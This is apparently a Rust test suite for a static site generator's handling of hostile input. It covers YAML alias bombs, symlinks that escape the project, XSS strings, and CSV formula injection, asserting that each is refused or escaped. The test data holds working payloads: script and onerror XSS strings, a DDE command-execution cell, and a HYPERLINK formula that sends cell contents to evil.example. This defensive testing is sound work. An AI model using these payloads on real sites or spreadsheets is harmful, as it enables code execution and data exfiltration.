//! Hostile and broken input: every bad file gets one clear error naming it, nothing panics or
//! hangs, and the limits on size, nesting and alias expansion hold.

mod common;
use common::{GOOD_CASE, Project};
use std::time::{Duration, Instant};

/// Builds a project holding `files` beside a good case; returns (exit code, stderr, seconds).
fn build(name: &str, files: &[(&str, Vec<u8>)]) -> (i32, String, f64) {
    let p = Project::new(name, &[("content/eksempler/god.md", GOOD_CASE)]);
    for (path, bytes) in files {
        let full = p.root.join(path);
        std::fs::create_dir_all(full.parent().unwrap()).unwrap();
        std::fs::write(full, bytes).unwrap();
    }
    let started = Instant::now();
    let (code, _, stderr) = p.katalog(&["build"]);
    (code, stderr, started.elapsed().as_secs_f64())
}

/// The error lines of `stderr` that name `path`.
fn errors_for<'a>(stderr: &'a str, path: &str) -> Vec<&'a str> {
    stderr
        .lines()
        .filter(|l| l.starts_with(&format!("{path}:")))
        .collect()
}

fn assert_one_error(name: &str, bytes: Vec<u8>, expected: &str) {
    let path = format!("content/eksempler/{name}.md");
    let (code, stderr, secs) = build(name, &[(&path, bytes)]);
    assert_eq!(code, 1, "{name}: {stderr}");
    assert!(!stderr.contains("panicked"), "{name} panicked: {stderr}");
    let errors = errors_for(&stderr, &path);
    assert_eq!(
        errors.len(),
        1,
        "{name}: one error expected, got {errors:?}"
    );
    assert!(
        errors[0].contains(expected),
        "{name}: {:?} does not say {expected:?}",
        errors[0]
    );
    assert!(secs < 30.0, "{name} took {secs} s");
}

#[test]
fn yaml_bombs_and_deep_nesting_are_refused() {
    let mut bomb = String::from(
        "---\na: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n",
    );
    for i in 0..12u8 {
        let (prev, next) = ((b'a' + i) as char, (b'a' + i + 1) as char);
        bomb.push_str(&format!("{next}: &{next} [*{prev},*{prev},*{prev},*{prev},*{prev},*{prev},*{prev},*{prev},*{prev}]\n"));
    }
    bomb.push_str("---\n");
    assert_one_error("bomb", bomb.into_bytes(), "error[yaml]");
    let deep = format!("---\ntitle: {}x{}\n---\n", "[".repeat(200), "]".repeat(200));
    assert_one_error("djup", deep.into_bytes(), "error[yaml]");
    let deep_map = format!(
        "---\n{}\n---\n",
        (0..200)
            .map(|i| format!("{}k{i}:", "  ".repeat(i)))
            .collect::<Vec<_>>()
            .join("\n")
    );
    assert_one_error("djup-map", deep_map.into_bytes(), "error[yaml]");
}

#[test]
fn broken_files_each_get_one_clear_error() {
    assert_one_error(
        "stor",
        format!("{GOOD_CASE}{}", "ord ".repeat(5_500_000)).into_bytes(),
        "MiB; a file may be at most 4 MiB",
    );
    let mut bad_utf8 = GOOD_CASE.as_bytes().to_vec();
    bad_utf8.extend_from_slice(b"\nlinje\n\xff\xfe\n");
    assert_one_error("utf8", bad_utf8, "not valid UTF-8");
    assert_one_error("tom", Vec::new(), "the file is empty");
    assert_one_error(
        "open",
        b"---\ntitle: x\nsummary: y\n".to_vec(),
        "no closing --- line",
    );
    assert_one_error(
        "utan",
        b"# Berre tekst\n".to_vec(),
        "must start with front matter",
    );
    assert_one_error(
        "dup",
        GOOD_CASE
            .replace("county: Rogaland", "county: Rogaland\ncounty: Vestland")
            .into_bytes(),
        "error[yaml]",
    );
}

#[test]
fn bom_and_crlf_are_fine() {
    let text = format!("\u{feff}{}", GOOD_CASE.replace('\n', "\r\n"));
    let (code, stderr, _) = build("crlf", &[("content/eksempler/crlf.md", text.into_bytes())]);
    assert_eq!(code, 0, "{stderr}");
}

#[test]
fn bad_names_and_symbolic_links_are_refused() {
    let outside = common::temp_dir("outside");
    std::fs::write(outside.join("secret.md"), GOOD_CASE).unwrap();
    let p = Project::new("names", &[("content/eksempler/god.md", GOOD_CASE)]);
    for name in ["Stor.md", "med mellomrom.md", "a..b.md", "æøå.md"] {
        p.write(&format!("content/eksempler/{name}"), GOOD_CASE);
    }
    std::os::unix::fs::symlink(
        outside.join("secret.md"),
        p.root.join("content/eksempler/lenkje.md"),
    )
    .unwrap();
    std::os::unix::fs::symlink(&outside, p.root.join("content/media")).unwrap();
    let (code, _, stderr) = p.katalog(&["build"]);
    assert_eq!(code, 1);
    for name in ["Stor.md", "med mellomrom.md", "a..b.md", "æøå.md"] {
        let errors = errors_for(&stderr, &format!("content/eksempler/{name}"));
        assert_eq!(errors.len(), 1, "{name}: {stderr}");
        assert!(errors[0].contains("is not a valid slug"), "{}", errors[0]);
    }
    assert_eq!(
        errors_for(&stderr, "content/eksempler/lenkje.md"),
        vec![
            "content/eksempler/lenkje.md:1:1: error[file]: is a symbolic link; katalog does not follow links out of content/: copy the file here instead"
        ]
    );
    assert_eq!(errors_for(&stderr, "content/media").len(), 1, "{stderr}");
    assert!(!p.output().exists());
    std::fs::remove_dir_all(outside).unwrap();
}

#[test]
fn symbolic_links_in_themes_are_refused() {
    let outside = common::temp_dir("theme-outside");
    std::fs::write(outside.join("passwd"), "hemmeleg\n").unwrap();
    std::fs::create_dir_all(outside.join("theme/templates")).unwrap();
    let p = Project::new("theme-links", &[("content/eksempler/god.md", GOOD_CASE)]);
    let link = |target: &std::path::Path, at: &str| {
        std::os::unix::fs::symlink(target, p.root.join(at)).unwrap();
    };
    link(&outside.join("passwd"), "themes/default/static/passwd.txt");
    link(&outside, "themes/default/static/alt");
    link(&outside.join("passwd"), "themes/default/i18n/se.yaml");
    let (code, _, stderr) = p.katalog(&["build"]);
    assert_eq!(code, 1, "{stderr}");
    for path in [
        "themes/default/static/passwd.txt",
        "themes/default/static/alt",
        "themes/default/i18n/se.yaml",
    ] {
        assert_eq!(
            errors_for(&stderr, path),
            vec![format!(
                "{path}:1:1: error[file]: is a symbolic link; katalog does not follow links in themes/: copy the file or folder here instead"
            )],
            "{stderr}"
        );
    }
    assert!(!p.output().exists());

    // A whole theme that is a link elsewhere.
    for at in [
        "themes/default/static/passwd.txt",
        "themes/default/static/alt",
        "themes/default/i18n/se.yaml",
    ] {
        std::fs::remove_file(p.root.join(at)).unwrap();
    }
    link(&outside.join("theme"), "themes/lenkja");
    p.edit("content/katalog.yaml", |yaml| {
        format!("{yaml}theme: lenkja\n")
    });
    let (code, _, stderr) = p.katalog(&["build"]);
    assert_eq!(code, 1, "{stderr}");
    assert_eq!(errors_for(&stderr, "themes/lenkja").len(), 1, "{stderr}");
    assert!(!p.output().exists());
    std::fs::remove_dir_all(outside).unwrap();
}

#[test]
fn hostile_strings_in_valid_content_are_escaped() {
    let evil = "<script>alert(1)</script>\u{202e}\"'></title></script><img src=x onerror=alert(1)>";
    let case = GOOD_CASE
        .replace("title: \"Suldal: grendeutval\"", &format!("title: {}", serde_json::to_string(&format!("Suldal {evil}")).unwrap()))
        .replace("name: Kari Nordmann", &format!("name: {}", serde_json::to_string(evil).unwrap()))
        .replace("Tekst.", &format!("{evil}\n\n[lenkje](javascript:alert(1)) ![bilete](data:image/svg+xml,<svg onload=alert(1)>)\n\n<svg><script>alert(1)</script></svg>"));
    let p = Project::new("evil", &[("content/eksempler/suldal.md", &case)]);
    let started = Instant::now();
    let (code, _, stderr) = p.katalog(&["build"]);
    assert_eq!(code, 0, "{stderr}");
    assert!(started.elapsed() < Duration::from_secs(30));
    // JSON is data (served as application/json), so only markup is checked here.
    for page in [
        "eksempler/suldal/index.html",
        "index.html",
        "trykk/index.html",
        "atom.xml",
    ] {
        let text = p.read(page).to_lowercase();
        assert!(!text.contains("<script>alert"), "{page}");
        assert!(!text.contains("<img src=x onerror"), "{page}");
        assert!(!text.contains("javascript:alert"), "{page}");
        assert!(!text.contains("<svg onload"), "{page}");
    }
}

#[test]
fn a_formula_in_contributor_text_is_inert_in_katalog_csv() {
    let case = GOOD_CASE
        .replace(
            "title: \"Suldal: grendeutval\"",
            "title: \"=HYPERLINK(\\\"https://evil.example/?\\\"&A1,\\\"Klikk\\\")\"",
        )
        .replace(
            "summary: Grendeutvala knyter bygdene til kommunestyret.",
            "summary: \"+cmd|' /C calc'!A0\"",
        )
        .replace("name: Kari Nordmann", "name: \"@SUM(1+1)\"")
        .replace("title: Kommunen,", "title: \"-2+3\",");
    let p = Project::new("csv-formula", &[("content/eksempler/suldal.md", &case)]);
    let (code, _, stderr) = p.katalog(&["build"]);
    assert_eq!(code, 0, "{stderr}");
    let bytes = std::fs::read(p.output().join("katalog.csv")).unwrap();
    let mut reader = csv::Reader::from_reader(&bytes[3..]);
    let header = reader.headers().unwrap().clone();
    let row = reader.records().next().unwrap().unwrap();
    let cell = |name: &str| &row[header.iter().position(|h| h == name).unwrap()];
    assert_eq!(
        cell("title"),
        "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Klikk\")"
    );
    assert_eq!(cell("summary"), "'+cmd|' /C calc'!A0");
    assert_eq!(cell("contact_name"), "'@SUM(1+1)");
    assert_eq!(cell("links_title"), "'-2+3");
    // No cell a spreadsheet would evaluate; numbers stay numbers.
    for (name, value) in header.iter().zip(row.iter()) {
        assert!(
            !value.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "{name}: {value:?}"
        );
    }
    assert_eq!(cell("population"), "3889");
}
